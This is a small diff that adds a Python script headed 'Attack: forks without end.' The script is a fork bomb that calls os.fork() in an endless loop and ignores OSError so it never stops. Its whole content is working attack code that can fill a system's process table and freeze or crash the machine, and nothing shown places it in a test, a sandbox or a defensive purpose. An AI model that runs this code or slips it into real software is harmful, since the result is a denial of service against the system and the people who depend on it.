@@ -1,0 +1,8 @@
+# Attack: forks without end.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
